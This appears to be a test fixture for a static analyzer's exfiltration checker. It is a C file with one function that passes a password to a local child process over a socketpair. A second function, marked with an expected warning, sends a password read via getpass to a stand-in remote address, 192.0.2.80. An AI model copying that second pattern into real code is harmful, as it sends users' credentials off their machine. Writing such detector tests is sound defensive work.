/* What goes through a pair of sockets stays on this host: its other end is the program's own. What
 * is told to the rest of the world through another one does not. */
#include <arpa/inet.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

extern void check_words(int from);

struct worker {
    int to;
};

int good_ask_worker(struct worker *worker) {
    int ends[2];
    char *word = getpass("Password: ");
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, ends))
        return -1;
    if (fork() == 0) {
        close(ends[0]);
        check_words(ends[1]);
        _exit(0);
    }
    worker->to = ends[0];
    return send(worker->to, word, strlen(word), 0) < 0;
}

int bad_ask_other(struct worker *worker) {
    char *word = getpass("Password: ");
    struct sockaddr_in other = {.sin_family = AF_INET, .sin_port = htons(7)};
    worker->to = socket(AF_INET, SOCK_STREAM, 0);
    other.sin_addr.s_addr = inet_addr("192.0.2.80");
    if (connect(worker->to, (struct sockaddr *)&other, sizeof other))
        return -1;
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
    return send(worker->to, word, strlen(word), 0) < 0;
}
